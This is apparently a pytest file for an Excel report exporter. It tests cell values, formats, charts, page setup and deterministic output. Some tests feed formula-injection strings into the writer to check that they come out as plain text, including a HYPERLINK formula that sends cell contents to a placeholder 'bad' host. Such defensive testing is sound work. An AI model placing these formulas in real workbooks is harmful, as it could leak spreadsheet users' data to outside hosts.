"""Workbooks read back with openpyxl, figure by figure, and the bytes that another run writes."""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime, time
from fractions import Fraction
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from reports import charts
from reports.cells import NONE, explanations, printed
from reports.charts_lines import Line, lines
from reports.content import DAY, DECIMAL, NUMBER, PERCENT, Cell, Chart, Column, Report, Section, Table, Text
from reports.excel import sheet_names, write
from reports.excel_chart import native
from reports.excel_sheet import figure
from reports.inert import inert
from tests.reports.sample import HOSTILE, heat, line, sample, stacked
from tests.reports.twice import written_elsewhere
from words import rounded, speaking


@pytest.fixture(scope="module", params=["tr", "en"])
def written(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[Report, Path]:
    report = sample(language=request.param)
    return report, write(report, tmp_path_factory.mktemp("excel") / "rapor.xlsx")


def titles_at(sheet: Any) -> int:
    """The row of the titles: the one that the panes are frozen below."""
    return int(re.sub(r"\D", "", sheet.freeze_panes)) - 1


def expected(cell: Cell, column: Column, *, beside_chart: bool) -> Any:
    """What must stand in a cell, calculated another way than by the writer."""
    if cell is None:
        return None if beside_chart and column.kind != "text" else NONE
    if isinstance(cell, date):
        return datetime.combine(cell, time())
    if isinstance(cell, str):
        return inert(cell)
    places = {PERCENT: 4, DECIMAL: 2, NUMBER: 0}[column.kind]
    return pytest.approx(float(rounded(cell, places)), abs=0)


def test_every_figure_is_a_number_in_its_cell(written: tuple[Report, Path]) -> None:
    report, path = written
    book = load_workbook(path)
    charts = {block.data.name for section in report.sections for block in section.blocks if isinstance(block, Chart)}
    assert book.sheetnames[2:] == [table.name for table in report.tables]
    for table in report.tables:
        sheet, below = book[table.name], explanations(table)
        top = titles_at(sheet)
        assert sheet["A1"].value == table.caption
        shown = [cell.value for cell in sheet[top] if cell.value is not None]
        assert shown[: len(table.columns)] == [column.title for column in table.columns]
        for number, cells in enumerate(table.rows):
            for at, (cell, column) in enumerate(zip(cells, table.columns, strict=True)):
                stands = sheet.cell(top + 1 + number, at + 1)
                assert stands.value == expected(cell, column, beside_chart=table.name in charts), (table.name, number, at)
                assert stands.data_type != "f"
            if below:
                assert sheet.cell(top + 1 + number, len(table.columns) + 1).value == below[number]
        heads = [
            (sheet.cell(top - len(table.head) + at, 1).value, sheet.cell(top - len(table.head) + at, 2).value)
            for at in range(len(table.head))
        ]
        assert heads == list(table.head)
        assert all(note in {cell.value for cell in sheet["A"]} for note in table.notes)


def test_figures_are_shown_as_the_reader_writes_them(written: tuple[Report, Path]) -> None:
    report, path = written
    sheet = load_workbook(path)["sonuclar"]
    row = [cell.number_format for cell in sheet[titles_at(sheet) + 1]]
    assert row[2:6] == ["#,##0", "#,##0", "0.00%", "#,##0"]
    assert sheet.cell(titles_at(sheet) + 1, 5).value == 1.0463
    assert sheet.cell(titles_at(sheet) + 4, 3).number_format == "#,##0.00"
    posts = load_workbook(path)["gonderiler"]
    assert posts.cell(titles_at(posts) + 1, 1).number_format.lower() == ("dd.mm.yyyy" if report.language == "tr" else "yyyy-mm-dd")


def test_the_cover_leads_to_every_sheet_and_back(written: tuple[Report, Path]) -> None:
    report, path = written
    book = load_workbook(path)
    cover = book.worksheets[0]
    assert cover.title == ("Kapak" if report.language == "tr" else "Cover")
    texts = [cell.value for row in cover.iter_rows() for cell in row]
    assert {report.mark, report.title, report.institution, *(text for _label, text in report.facts)} <= set(texts)
    led = {cell.value: cell.hyperlink.location for row in cover.iter_rows() for cell in row if cell.hyperlink}
    assert led == {name: f"'{name}'!A1" for name in book.sheetnames[1:]}
    assert all(sheet["A2"].hyperlink.location == f"'{cover.title}'!A1" for sheet in book.worksheets[2:])
    said = [cell.value for cell in book.worksheets[1]["A"]]
    assert "Sapmalar yukarıda işaretli olarak gösterilmiştir." in said
    assert '• =HYPERLINK("http://kotu.example/?"&A1;"tıkla")' in said


def test_sheets_are_ready_for_work_and_for_paper(written: tuple[Report, Path]) -> None:
    report, path = written
    book = load_workbook(path)
    for sheet in book.worksheets:
        assert sheet.page_setup.paperSize == 9
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
        assert report.mark in sheet.oddHeader.center.text
        assert "&P" in sheet.oddFooter.right.text
    for table in report.tables:
        sheet = book[table.name]
        top = titles_at(sheet)
        assert sheet.print_title_rows == f"${top}:${top}"
        last = top + len(table.rows) - (1 if table.name == "sonuclar" else 0)  # a sum is not sorted with what it sums up
        columns = len(table.columns) + bool(table.spans)
        assert sheet.auto_filter.ref == f"A{top}:{'ABCDEFGHIJ'[columns - 1]}{last}"
    assert book["kanitlar"].page_setup.orientation == "landscape"
    assert book["sonuclar"].page_setup.orientation != "landscape"


def test_charts_are_the_program_s_own_where_it_can_draw_them(written: tuple[Report, Path]) -> None:
    _report, path = written
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        drawn = [package.read(name).decode() for name in names if name.startswith("xl/charts/chart")]
        alts = "".join(package.read(name).decode() for name in names if name.startswith("xl/drawings/drawing"))
    assert len(drawn) == 2
    assert sum(name.startswith("xl/media/") for name in names) == 1
    assert '<c:grouping val="stacked"/>' in drawn[0]
    assert drawn[0].count("<c:ser>") == 4
    assert "<c:lineChart>" in drawn[1]
    assert "<c:dateAx>" in drawn[1]
    assert "'takipci_seyri'!" in drawn[1] or "takipci_seyri!" in drawn[1]
    for chart in (stacked(), line(), heat()):
        assert chart.alt in alts


def bars(table: Table, **encoding: Any) -> Chart:
    given = {"x": {"field": "a", "type": "quantitative"}, "y": {"field": "b", "type": "nominal"}, **encoding}
    return Chart(
        "c", "C", "alt", {"data": {"values": []}, "layer": [{"mark": {"type": "bar"}, "encoding": given}, {"mark": "text"}]}, table
    )


@pytest.mark.parametrize(
    ("columns", "encoding", "found"),
    [
        ([NUMBER], {}, ("bar", False, [1])),
        ([NUMBER, NUMBER], {"color": {"field": "c", "type": "nominal", "scale": {"domain": ["k2"]}}}, ("bar", False, [2])),
        ([NUMBER, NUMBER], {"color": {"field": "c", "type": "nominal"}}, ("bar", True, [1, 2])),
        ([NUMBER, NUMBER], {"color": {"field": "c"}, "x2": {"field": "d"}}, ("bar", False, [1, 2])),
        ([PERCENT, PERCENT], {}, ("bar", False, [1, 2])),
        ([PERCENT, NUMBER], {}, ("bar", False, [1])),
        (["text"], {}, None),
        ([NUMBER] * 13, {}, None),
    ],
)
def test_what_excel_can_draw(columns: list[str], encoding: dict[str, Any], found: tuple[Any, ...] | None) -> None:
    titles = [Column("Ad"), *(Column(f"k{at}", kind) for at, kind in enumerate(columns, 1))]
    table = Table("t", "T", titles, [["a", *([1] * len(columns))]])
    drawn = native(bars(table, **encoding), table)
    assert (None if drawn is None else (drawn.form, drawn.stacked, list(drawn.columns))) == found


@pytest.mark.parametrize(
    ("cell", "kind", "value", "look"),
    [
        (Fraction(25110, 24000), PERCENT, 1.0463, "percent"),
        (Fraction(1, 200000), PERCENT, 0.0, "percent"),
        (Fraction(5, 2), NUMBER, 3, "whole"),
        (Fraction(-5, 2), NUMBER, -3, "whole"),
        (Fraction(11617), DECIMAL, 11617, "whole"),
        (Fraction(8900, 95), DECIMAL, 93.68, "places"),
        (Fraction(1005, 1000), DECIMAL, 1.01, "places"),
    ],
)
def test_a_figure_is_rounded_once_half_up(cell: Fraction, kind: str, value: float, look: str) -> None:
    assert figure(cell, kind) == (value, look)


def test_names_of_sheets_are_accepted_and_unique() -> None:
    names = sheet_names(["izleme", "İzleme", "IZLEME", "history", "a/b:c*[d]?\\", "'x'", "", "y" * 40, "y" * 40, "\x00"])
    assert len({name.lower() for name in names}) == len(names)
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") and not name.startswith("'") for name in names)


def test_a_number_longer_than_a_spreadsheet_counts_stays_whole(tmp_path: Path) -> None:
    table = Table(
        "t",
        "T",
        [Column("n", NUMBER), Column("g", DAY)],
        [[1234567890123456789, date(1899, 12, 31)], [123456789012345, date(1900, 1, 1)]],
    )
    report = Report("r", "T", "", "", "tr", date(2026, 7, 1), [Section("S", [table])])
    sheet = load_workbook(write(report, tmp_path / "r.xlsx"))["t"]
    top = titles_at(sheet)
    assert [cell.value for cell in sheet[top + 1]] == ["1.234.567.890.123.456.789", "31.12.1899"]
    assert sheet.cell(top + 2, 1).value == 123456789012345


def test_the_same_content_is_the_same_bytes(tmp_path: Path) -> None:
    here = write(sample(), tmp_path / "a.xlsx").read_bytes()
    assert write(sample(), tmp_path / "b.xlsx").read_bytes() == here
    for hashes, zone in (("1", "UTC"), ("2", "Asia/Tokyo")):
        assert written_elsewhere("excel", tmp_path / f"{hashes}.xlsx", hashes, zone).read_bytes() == here


def small(text: str) -> Report:
    table = Table(
        text,
        text,
        [Column(text), Column("n", NUMBER)],
        [[text, 1], [text, 2]],
        notes=[text],
        spans=[(0, text)],
        head=[(text, text)],
    )
    spec = {"data": {"values": []}, "mark": "bar", "encoding": {"x": {"type": "nominal"}, "y": {"type": "quantitative"}}}
    plain = Table("veri", text, [Column(text), Column(text, NUMBER)], [[text, 1], [text, 2]])
    section = Section(text, [Text([text]), Text([text], listed=True), table, Chart(text, text, text, spec, plain)])
    return Report("r", text, text, text, "tr", date(2026, 7, 1), [section], mark=text, facts=[(text, text)])


def whole(path: Path) -> None:
    """Every part is XML, no cell is a formula, no link leads outside, and no text is longer than a cell holds."""
    with zipfile.ZipFile(path) as package:
        assert package.testzip() is None
        for name in package.namelist():
            content = package.read(name)
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(content)
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in content
            if name.startswith("xl/charts/"):
                assert set(re.findall(rb"<c:f>'?(\w+)'?!", content)) == {b"veri"}
                assert content.count(b"<c:f>") == 3
            assert b'TargetMode="External"' not in content
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not isinstance(cell.value, str) or len(cell.value.encode("utf-16-le")) <= 2 * 32_767
                assert cell.hyperlink is None or cell.hyperlink.target is None


@pytest.mark.filterwarnings("error")
@pytest.mark.parametrize("text", [*HOSTILE, "=1+1", '&P&"Wingdings"', "_x0041_", "'=1", "veri!A1", "=veri!$A$1", "😀" * 33_000])
def test_a_hostile_text_is_a_text(text: str, tmp_path: Path) -> None:
    path = write(small(text), tmp_path / "rapor.xlsx")
    whole(path)
    sheet = load_workbook(path).worksheets[2]
    assert sheet.cell(titles_at(sheet) + 1, 1).value in (inert(text), inert(text).replace("_x0041_", "_x005F_x0041_"))


@settings(max_examples=20, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(text=st.text(st.characters(), max_size=400))
def test_any_text_leaves_the_workbook_whole(text: str, tmp_path: Path) -> None:
    whole(write(small(text), tmp_path / "rapor.xlsx"))


def test_a_report_of_nothing_is_a_workbook(tmp_path: Path) -> None:
    empty = Table("t", "", [Column("a")], [])
    data = Table("d", "", [Column("a"), Column("b", NUMBER)], [])
    report = Report("r", "", "", "", "en", date(2026, 7, 1), [Section("", [empty, Chart("c", "", "", stacked().spec, data)])])
    whole(write(report, tmp_path / "leer.xlsx"))
    whole(write(Report("r", "", "", "", "en", date(2026, 7, 1), []), tmp_path / "bare.xlsx"))


def test_what_stands_in_a_text_column_is_said_as_in_the_other_documents(tmp_path: Path) -> None:
    table = Table("t", "T", [Column("a"), Column("b", DECIMAL)], [[Fraction(1, 3), "-"], [None, None]])
    report = Report("r", "T", "", "", "tr", date(2026, 7, 1), [Section("S", [table])])
    sheet = load_workbook(write(report, tmp_path / "r.xlsx"))["t"]
    with speaking("tr"):
        assert [cell.value for cell in sheet[titles_at(sheet) + 1]] == [printed(Fraction(1, 3), "text"), "-"]
    assert [cell.value for cell in sheet[titles_at(sheet) + 2]] == [NONE, NONE]


def test_the_house_s_charts_are_drawn_natively_where_they_are_series() -> None:
    def form(spec: Any, *columns: Column) -> tuple[str, bool, list[int]] | None:
        table = Table("t", "T", [Column("Ad"), *columns], [["a", *([1] * len(columns))]])
        drawn = native(Chart("c", "C", "alt", spec, table), table)
        return None if drawn is None else (drawn.form, drawn.stacked, list(drawn.columns))

    two, whole = (Column("X", NUMBER), Column("YouTube", NUMBER)), Column("Toplam", NUMBER)
    assert form(charts.months(["Oca", "Şub"], {"X": [1, 2], "YouTube": [3, 4]}), *two, whole) == ("column", True, [1, 2])
    assert form(charts.bars([("a", 1), ("b", None)], unknown="?"), Column("Haber", NUMBER)) == ("bar", False, [1])
    seen = [(date(2026, 1, 1), 1), (date(2026, 2, 1), 2)]
    assert form(lines([Line("X", seen), Line("YouTube", seen)]), *two) == ("line", False, [1, 2])
    standing = charts.Standing("PG7.2.1", Fraction(3, 2), Fraction(1), Fraction(1, 2))
    drawn = charts.performance([standing], counted="Sayılan", raw="Ham", expected="Beklenen", unknown="?")
    assert form(drawn, Column("Ham", PERCENT), Column("Sayılan", PERCENT), Column("Hedef", DECIMAL)) == ("bar", False, [1, 2])
    assert form(charts.platforms([("Görüntülenme", [("X", 1)])], unknown="?"), *two) is None
